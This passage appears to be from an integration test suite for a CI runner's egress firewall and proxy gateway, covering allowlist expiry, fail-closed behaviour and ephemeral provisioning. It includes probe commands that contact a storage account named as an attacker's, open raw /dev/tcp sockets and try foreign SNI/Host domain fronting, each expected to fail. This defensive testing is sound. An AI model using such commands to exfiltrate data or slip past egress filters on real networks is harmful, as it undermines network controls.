    r = asRunner("curl -sS --max-time 5 https://productionresultssa0.blob.core.windows.net/");
    probes.add(
      g,
      "HTTPS to GitHub's storage account productionresultssa0",
      "ok",
      describeRun(r),
      r.stdout.trim() === "ok productionresultssa0.blob.core.windows.net",
    );
    r = asRunner(
      "dig +time=2 +tries=1 cco-attacker.blob.core.windows.net | grep -o 'status: [A-Z]*'; curl -sS --max-time 4 https://cco-attacker.blob.core.windows.net/",
    );
    probes.add(
      g,
      "a foreign storage account (cco-attacker.blob.core.windows.net)",
      "NXDOMAIN, fails",
      describeRun(r),
      r.status !== 0 && r.stdout.startsWith("status: NXDOMAIN"),
    );
    // A moved name: its old address closes once the entry expires (2 x EGRESS_TTL_MAX_S after the last answer).
    r = asRunner(`curl -sS --max-time 5 https://${NET.moved.name}/`);
    probes.add(
      g,
      `HTTPS to ${NET.moved.name} at ${NET.moved.from}`,
      `ok, ${NET.moved.from} in the set`,
      `${describeRun(r)}; in set: ${inSet(NET.moved.from)}`,
      r.status === 0 && inSet(NET.moved.from),
    );
    writeFileSync(movedHosts, `${NET.moved.to} ${NET.moved.name}\n`);
    upstreamDns!.kill("SIGHUP");
    const expiry = 2 * Number(TEST_BOUNDS.EGRESS_TTL_MAX_S) + 2;
    run("sleep", [String(expiry)]);
    r = asRunner(`curl -sS --max-time 4 --resolve ${NET.moved.name}:443:${NET.moved.from} https://${NET.moved.name}/`);
    probes.add(
      g,
      `${expiry} s after the move: the old address ${NET.moved.from}`,
      "gone from the set, fails",
      `${describeRun(r)}; in set: ${inSet(NET.moved.from)}`,
      r.status !== 0 && !inSet(NET.moved.from),
    );
    r = asRunner(`curl -sS --max-time 5 https://${NET.moved.name}/`);
    probes.add(
      g,
      `HTTPS to ${NET.moved.name} now (at ${NET.moved.to})`,
      `ok, ${NET.moved.to} in the set`,
      `${describeRun(r)}; in set: ${inSet(NET.moved.to)}`,
      r.status === 0 && inSet(NET.moved.to),
    );
    // A full set (filled here by root, as a job filled it with addresses under an allowed wildcard): fails closed, visibly.
    const max = Number(TEST_BOUNDS.EGRESS_SET_MAX);
    const fill = Array.from(
      { length: max },
      (_, i) => `add cco-allow ${i < 256 ? `192.0.2.${i}` : `203.0.113.${i - 256}`}`,
    ).join("\n");
    // Emptied first, so the set holds only the fill's entries: none of an earlier probe's (api.github.com's
    // among them) can expire during the probe and make room, and the name is fresh as the probe says.
    ct.exec("ipset flush cco-allow");
    ct.exec("ipset restore -exist", { input: `${fill}\n` });
    const entries = () =>
      Number(ct.exec("ipset list -t cco-allow | awk '/^Number of entries/ {print $4}'").stdout.trim());
    const full = entries();
    r = asRunner("curl -sS --max-time 4 https://api.github.com/");
    probes.add(
      g,
      `a full set (${full} of ${max}): a fresh allowed name`,
      "resolves, but the connection fails (closed)",
      describeRun(r),
      full >= max && r.status !== 0 && !inSet(NET.records["api.github.com"]!),
    );
    r = ct.exec(
      "systemctl start cco-egress-check.service; systemctl show -P Result cco-egress-check.service; cat /var/lib/cco/egress-set-full;" +
        " journalctl -b -u cco-egress-check -p err --no-pager -o cat | grep -c 'cco-allow is full'",
    );
    probes.add(
      g,
      "cco-egress-check says so",
      "unit failed, counter 1, an error line in the journal",
      describeRun(r),
      /^exit-code\n[1-9]\d*\n[1-9]/.test(r.stdout.trim()),
    );
    run("sleep", [String(2 * Number(TEST_BOUNDS.EGRESS_TTL_MAX_S) + 2)]);
    r = asRunner("curl -sS --max-time 5 https://api.github.com/");
    const recovered = ct
      .exec("systemctl start cco-egress-check.service; systemctl show -P Result cco-egress-check.service")
      .stdout.trim();
    probes.add(
      g,
      "once the entries expired: the name connects again, the check passes",
      "ok api.github.com, success",
      `${describeRun(r)}; check ${recovered}`,
      r.stdout.trim() === "ok api.github.com" && recovered === "success",
    );
    // egressExtraCidrs open 80 and 443 only (unless egressExtraCidrPorts says more): egress.sh with a block added.
    const extra = `${NET.neverResolved}/32`;
    ct.must(
      `sed 's|^EGRESS_EXTRA_CIDRS=.*|EGRESS_EXTRA_CIDRS=${extra}|' /etc/cco/runner.env > /root/extra.env && CCO_PARAMS=/root/extra.env /opt/cco/egress.sh`,
    );
    r = asRunner(`curl -ksS --max-time 4 https://${NET.neverResolved}/`);
    probes.add(g, `an extra block (${extra}) on 443`, "connects", describeRun(r), r.status === 0);
    r = asRunner(`timeout 5 bash -c 'exec 3<>/dev/tcp/${NET.neverResolved}/22 && head -c 7 <&3'`);
    probes.add(
      g,
      "the same block on 22 (egressExtraCidrPorts not set)",
      "fails",
      describeRun(r),
      r.status !== 0 && !r.stdout.includes("SSH"),
    );
    ct.must("/opt/cco/egress.sh && rm -f /root/extra.env");
    r = asRunner(`curl -ksS --max-time 4 https://${NET.neverResolved}/`);
    probes.add(
      g,
      "(egress.sh with the real parameters again: the block closed)",
      "fails",
      describeRun(r),
      r.status !== 0,
    );
    expectGroup(g);
  });
  it("the runner behind the egress gateway (egressMode gateway): the runner and its jobs go through its port, nothing else leaves", function () {
    const g = "behind the gateway (inner wall and proxy settings)";
    const asRunner = (script: string) => ct.exec(script, { user: "runner" });
    const gw = `http://${NET.egressGateway}:3128`;
    const noProxy = `localhost,127.0.0.1,::1,${NET.stats}`;
    // The prod stack renders the same shape (its own gateway and stats addresses).
    const shape =
      /^http:\/\/[\d.]+:\d+$/.test(gatewayParams.EGRESS_PROXY ?? "") &&
      /^localhost,127\.0\.0\.1,::1,[\d.]+/.test(gatewayParams.EGRESS_NO_PROXY ?? "");
    probes.add(
      g,
      "the prod stack's runner.env names the gateway and no_proxy",
      "EGRESS_PROXY=http://A:P, EGRESS_NO_PROXY=localhost,127.0.0.1,::1,<stats>",
      JSON.stringify(gatewayParams),
      shape,
    );
    const original = ct.must(`cat ${bundleFile("runner.env")}`);
    const before = runnerPid();
    setParam("EGRESS_PROXY", gw);
    setParam("EGRESS_NO_PROXY", noProxy);
    let p = provision(20);
    probes.add(
      g,
      "provision.sh with EGRESS_PROXY (the runner restarted for its new environment)",
      "exit 0, new MainPID",
      `exit ${p.status}; MainPID ${before} -> ${runnerPid()}`,
      p.status === 0 && runnerPid() !== before && runnerPid() !== "0",
    );
    let r = ct.exec(
      "cat /etc/cco/proxy.env /etc/apt/apt.conf.d/80cco-proxy; grep -E '^(https?|no)_proxy=' /home/runner/actions-runner/.env",
    );
    probes.add(
      g,
      "proxy.env, apt's proxy and the runner's .env name the gateway",
      `https_proxy=${gw} in all three, no_proxy=${noProxy}`,
      describeRun(r),
      r.stdout.split("\n").filter((l) => l === `https_proxy=${gw}`).length === 2 &&
        r.stdout.includes(`Acquire::https::Proxy "${gw}";`) &&
        r.stdout.split("\n").filter((l) => l === `no_proxy=${noProxy}`).length === 2,
    );
    const stats = `http://${NET.stats}:${NET.statsPort}/healthz`;
    const from = internetRequests().length;
    queueJob("gw-1", {
      STUB_SECONDS: "1",
      STUB_DISPLAY: "gateway (probe)",
      GITHUB_REPOSITORY: "brentley/cco",
      GITHUB_WORKFLOW: "build",
      GITHUB_JOB: "gw",
      GITHUB_RUN_ID: "5301",
      GITHUB_RUN_ATTEMPT: "1",
      RUNNER_NAME: "runner-01",
      STUB_RUN: `echo "proxy=$https_proxy"; curl -sS --max-time 5 -o /dev/null -w 'github=%{http_code}\\n' https://github.com/; curl -sS --max-time 5 -o /dev/null -w 'stats=%{http_code}\\n' ${stats}; curl -sS --noproxy '*' --max-time 4 https://github.com/ || echo direct=failed`,
    });
    const done = waitIn("the job ran", `until grep -q '^gw-1 ' ${RD}/_diag/stub-jobs.log; do sleep 0.3; done`, 40);
    const out = ct.exec(`cat ${RD}/_diag/stub-run.log`).stdout;
    const saw = internetRequests()
      .slice(from)
      .filter((e) => e.remote?.endsWith(NET.container));
    const proxied = saw.filter(
      (e) =>
        e.kind === "proxy" &&
        (e as { line?: string }).line === "CONNECT github.com:443 HTTP/1.1" &&
        e.local?.endsWith(NET.egressGateway),
    );
    probes.add(
      g,
      "a job's step inherits https_proxy and sends CONNECT github.com:443 to the gateway's port",
      `proxy=${gw}; the port saw the CONNECT`,
      `${done.ok ? "" : "job did not finish; "}${out.split("\n")[0]}; ${proxied.length} CONNECT`,
      done.ok && out.includes(`proxy=${gw}`) && proxied.length === 1,
    );
    probes.add(
      g,
      "the job reaches the stats service directly (no_proxy)",
      "stats=200",
      out.split("\n").find((l) => l.startsWith("stats=")) ?? out,
      out.includes("stats=200"),
    );
    const direct = saw.filter((e) => e.kind !== "proxy");
    probes.add(
      g,
      "the job's direct HTTPS (--noproxy) dies at the inner wall: nothing reached github.com",
      "direct=failed, no TLS or request from the container",
      `${out.includes("direct=failed") ? "direct=failed" : out}; ${direct.map((e) => `${e.kind}@${e.local}`).join(",") || "nothing else"}`,
      out.includes("direct=failed") && direct.length === 0,
    );
    r = asRunner(`curl -sS --max-time 4 --resolve github.com:443:${NET.records["github.com"]} https://github.com/`);
    probes.add(g, "the runner user to github.com's address without the proxy", "fails", describeRun(r), r.status !== 0);
    // Issue 17's shared address: a foreign site behind an allowed name's (CDN) address, by its own SNI or Host.
    // The inner wall of old admitted both (the address was in the set); behind the gateway only its port is open.
    const foreign = "cco-foreign.example";
    const sawForeign = (since: number) =>
      internetRequests()
        .slice(since)
        .filter((e) => (e as { servername?: string }).servername === foreign || e.host === foreign).length;
    let since = internetRequests().length;
    r = asRunner(`curl -ksS --max-time 4 --resolve ${foreign}:443:${NET.records["github.com"]} https://${foreign}/`);
    probes.add(
      g,
      `a foreign SNI (${foreign}) to github.com's address without the proxy`,
      "fails, no handshake reached the internet",
      `${describeRun(r)}; ${sawForeign(since)} seen`,
      r.status !== 0 && sawForeign(since) === 0,
    );
    since = internetRequests().length;
    r = asRunner(`curl -sS --max-time 4 -H 'Host: ${foreign}' http://${NET.records["github.com"]}/`);
    probes.add(
      g,
      `a foreign Host (${foreign}) over plain HTTP to github.com's address without the proxy`,
      "fails, no request reached the internet",
      `${describeRun(r)}; ${sawForeign(since)} seen`,
      r.status !== 0 && sawForeign(since) === 0,
    );
    const queries = upstreamQueries().length;
    r = asRunner("dig +time=2 +tries=1 github.com | grep -o 'status: [A-Z]*'");
    probes.add(
      g,
      "DNS for an allowed name: answered NXDOMAIN inside, never forwarded (the gateway resolves)",
      "NXDOMAIN, no upstream query",
      `${describeRun(r)}; upstream queries ${queries} -> ${upstreamQueries().length}`,
      r.stdout.trim() === "status: NXDOMAIN" && upstreamQueries().length === queries,
    );
    r = asRunner(`timeout 4 bash -c 'exec 3<>/dev/tcp/${NET.egressGateway}/22' && echo open`);
    probes.add(
      g,
      "the gateway's address on another port",
      "fails",
      describeRun(r),
      r.status !== 0 && !r.stdout.includes("open"),
    );
    // Back to direct: nothing of the proxy stays, and the names connect again by the inner wall.
    ct.must(`cat > ${bundleFile("runner.env")}`, { input: original });
    p = provision(21);
    r = ct.exec(
      "ls /etc/cco/proxy.env /etc/apt/apt.conf.d/80cco-proxy 2>&1; grep -c _proxy= /home/runner/actions-runner/.env",
    );
    probes.add(
      g,
      "provision.sh with EGRESS_PROXY empty again (egressMode direct): proxy files and .env lines gone",
      "exit 0, no such files, 0 lines",
      `exit ${p.status}; ${describeRun(r)}`,
      p.status === 0 && (r.stdout.match(/No such file/g) ?? []).length === 2 && r.stdout.trim().endsWith("0"),
    );
    r = asRunner("curl -sS --max-time 5 https://github.com/");
    probes.add(
      g,
      "then HTTPS to github.com directly",
      "ok github.com",
      describeRun(r),
      r.stdout.trim() === "ok github.com",
    );
    expectGroup(g);
  });

  // ---- runnerMode ephemeral (issue 14): the same container provisioned again in ephemeral mode ----

  it("runnerMode ephemeral (issue 14): provisioned with no registration token, the registration goes, the runner starts only per life", function () {
    const g = "ephemeral mode (issue 14)";
    setParam("RUNNER_MODE", "ephemeral");
    const remoteDir = `/root/${bundleDir.split("/").pop()!}`;
    // What the program gives an ephemeral runner on stdin: its own stats credential, nothing that registers.
    const again = () =>
      ct.exec(provisionCommand({ remoteDir }, "provision.sh"), {
        input: `INGEST_TOKEN=${INGEST_TOKEN}\n`,
        timeoutMs: 300_000,
      });
    const p = again();
    writeFileSync(join(tmp, "provision-ephemeral.log"), p.stdout + p.stderr);
    probes.add(
      g,
      "provisioning with only INGEST_TOKEN on stdin",
      "exit 0, no runner id printed",
      `exit ${p.status}; ${p.stdout.trim() || "(no stdout)"}`,
      p.status === 0 && !/runner-id=/.test(p.stdout),
    );
    const left = ct
      .exec(
        `for f in /var/lib/cco/runner-id ${RD}/.runner ${RD}/.credentials ${RD}/.credentials_rsaparams; do [ -e "$f" ] && echo "$f"; done; true`,
      )
      .stdout.trim();
    probes.add(
      g,
      "the persistent registration is gone (runner id, .runner, credentials)",
      "none left",
      left || "none left",
      left === "",
    );
    // (The container still runs: the runner was stopped before the drop-in that powers it off on a stop.)
    const r = ct.exec(
      "systemctl is-enabled actions-runner.service; systemctl is-active actions-runner.service; systemctl is-enabled cco-jit.path",
    );
    probes.add(
      g,
      "actions-runner.service off at boot and stopped; cco-jit.path enabled (it starts the runner per life)",
      "disabled inactive enabled",
      r.stdout.trim().replace(/\n/g, " "),
      r.stdout.trim().replace(/\n/g, " ") === "disabled inactive enabled",
    );
    const dropins = ct.must("systemctl show -P DropInPaths actions-runner.service").trim();
    probes.add(
      g,
      "the runner unit has the one-job drop-in",
      "cco-ephemeral.conf",
      dropins,
      dropins.endsWith("/cco-ephemeral.conf"),
    );
    const h = ct.exec("stat -c '%U:%G %a' /opt/cco/jit-handoff.sh /opt/cco/jit-runner.sh");
    probes.add(
      g,
      "the hand-off scripts are root's",
      "root:root 755 (both)",
      h.stdout.trim().replace(/\n/g, " "),
      h.stdout.trim() === "root:root 755\nroot:root 755",
    );
    const second = again();
    const changes = second.stderr
      .split("\n")
      .filter((l) => /installed|enabled|disabled|removed|unpacked|registered/.test(l));
    probes.add(
      g,
      "a second run changes nothing",
      "exit 0, no change logged",
      `exit ${second.status}; ${changes.join(" ") || "no change"}`,
      second.status === 0 && changes.length === 0,
    );
    expectGroup(g);
  });
});
